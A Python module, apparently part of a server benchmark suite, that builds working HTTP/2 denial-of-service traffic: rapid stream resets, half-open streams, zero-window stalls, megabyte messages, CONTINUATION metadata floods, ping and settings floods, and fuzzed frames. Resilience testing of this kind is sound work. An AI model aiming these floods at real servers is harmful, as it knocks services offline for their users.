"""What attackers do: by name, how each strikes."""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass

from benchmarks import http2
from benchmarks.http2 import frame
from benchmarks.peer import Peer

__all__ = ["ATTACKS", "Attack"]

_CHUNK = 16_384
_HUGE = 1_000_000
_QUIET = http2.PREFACE + frame(http2.SETTINGS, 0, 0)
# An answer that nobody will let through.
_SHUT = http2.PREFACE + frame(
    http2.SETTINGS, 0, 0, http2.INITIAL_WINDOW.to_bytes(2, "big") + b"\0\0\0\0"
)


@dataclass(frozen=True, slots=True)
class Attack:
    """What is done to whom: `rate` times a second over so many connections.

    `message` is the request, in hex, of those attackers that make whole ones.
    """

    kind: str
    address: str
    method: str
    message: str
    rate: float
    connections: int
    seconds: float
    seed: int = 1


Strike = Callable[[Peer], bytes]
"""Makes what is sent for one thing done."""


def _resets(attack: Attack) -> Strike:
    """Begin calls, and reset each at once."""
    opening = http2.headers(attack.address, attack.method)
    asked = http2.message_of(bytes.fromhex(attack.message))

    def strike(peer: Peer) -> bytes:
        stream = peer.next_stream()
        return (
            frame(http2.HEADERS, http2.END_HEADERS, stream, opening)
            + frame(http2.DATA, http2.END_STREAM, stream, asked)
            + frame(http2.RST, 0, stream, b"\0\0\0\x08")
        )

    return strike


def _early_resets(attack: Attack) -> Strike:
    """Reset calls before they have said what they ask."""
    opening = http2.headers(attack.address, attack.method)

    def strike(peer: Peer) -> bytes:
        stream = peer.next_stream()
        return frame(http2.HEADERS, http2.END_HEADERS, stream, opening) + frame(
            http2.RST, 0, stream, b"\0\0\0\x08"
        )

    return strike


def _halves(attack: Attack) -> Strike:
    """Begin calls, and never say what they ask."""
    opening = http2.headers(attack.address, attack.method)
    return lambda peer: frame(http2.HEADERS, http2.END_HEADERS, peer.next_stream(), opening)


def _unread(attack: Attack) -> Strike:
    """Call, and never let an answer through."""
    opening = http2.headers(attack.address, attack.method)
    asked = http2.message_of(bytes.fromhex(attack.message))

    def strike(peer: Peer) -> bytes:
        stream = peer.next_stream()
        return frame(http2.HEADERS, http2.END_HEADERS, stream, opening) + frame(
            http2.DATA, http2.END_STREAM, stream, asked
        )

    return strike


def _messages(attack: Attack) -> Strike:
    """Send messages of a megabyte, as many at once as the server lets through."""
    opening = http2.headers(attack.address, attack.method)
    # A field that nobody knows, as large as the message; with what is asked behind it.
    asked = bytes.fromhex(attack.message)
    filler = _HUGE - len(asked) - 8
    body = http2.message_of(b"\xfa\x7f" + _varint(filler) + b"\0" * filler + asked)

    def strike(peer: Peer) -> bytes:
        stream = peer.next_stream()
        peer.send(frame(http2.HEADERS, http2.END_HEADERS, stream, opening))
        peer.post(stream, body)
        return b""

    return strike


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:  # noqa: PLR2004 - of protobuf
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes((*out, value))


def _frames(attack: Attack) -> Strike:
    """Send frames of any kind, whole ones, with anything in them."""
    chance = random.Random(attack.seed)  # noqa: S311 - no secret

    def strike(_peer: Peer) -> bytes:
        stream = chance.choice((0, 1, 2, 3, 5, chance.randrange(2**31)))
        payload = chance.randbytes(chance.choice((0, 4, 5, 6, 8, 9, chance.randrange(500))))
        return frame(chance.randrange(12), chance.randrange(256), stream, payload)

    return strike


def _noise(attack: Attack) -> Strike:
    """Send what is no HTTP/2 at all."""
    chance = random.Random(attack.seed)  # noqa: S311 - no secret
    return lambda _peer: chance.randbytes(chance.randrange(1, 2000))


def _metadata(attack: Attack) -> Strike:
    """Send calls with 64 KB of metadata."""
    field = b"\x00" + http2.literal("x-filler") + http2.literal("x" * 120)
    opening = http2.headers(attack.address, attack.method)
    rest = [(field * (_CHUNK // len(field))) for _ in range(4)]

    def strike(peer: Peer) -> bytes:
        stream = peer.next_stream()
        return (
            frame(http2.HEADERS, http2.END_STREAM, stream, opening)
            + b"".join(frame(9, 0, stream, part) for part in rest[:-1])
            + frame(9, http2.END_HEADERS, stream, rest[-1])
        )

    return strike


def _pings(_attack: Attack) -> Strike:
    """Send pings."""
    ping = frame(http2.PING, 0, 0, b"12345678")
    return lambda _peer: ping


def _settings(_attack: Attack) -> Strike:
    """Send settings, each to be acknowledged."""
    settings = frame(http2.SETTINGS, 0, 0, http2.INITIAL_WINDOW.to_bytes(2, "big") + b"\0\1\0\0")
    return lambda _peer: settings


def _nothing(_attack: Attack) -> Strike:
    """Open connections and do nothing with them."""
    return lambda _peer: b""


ATTACKS: dict[str, tuple[Callable[[Attack], Strike], bytes]] = {
    "resets": (_resets, _QUIET),
    "early resets": (_early_resets, _QUIET),
    "halves": (_halves, _QUIET),
    "unread": (_unread, _SHUT),
    "messages": (_messages, _QUIET),
    "frames": (_frames, _QUIET),
    "noise": (_noise, b""),
    "metadata": (_metadata, _QUIET),
    "pings": (_pings, _QUIET),
    "settings": (_settings, _QUIET),
    "idle": (_nothing, _QUIET),
    "silent": (_nothing, b""),
}
"""By name: how an attacker strikes, and what it says first."""
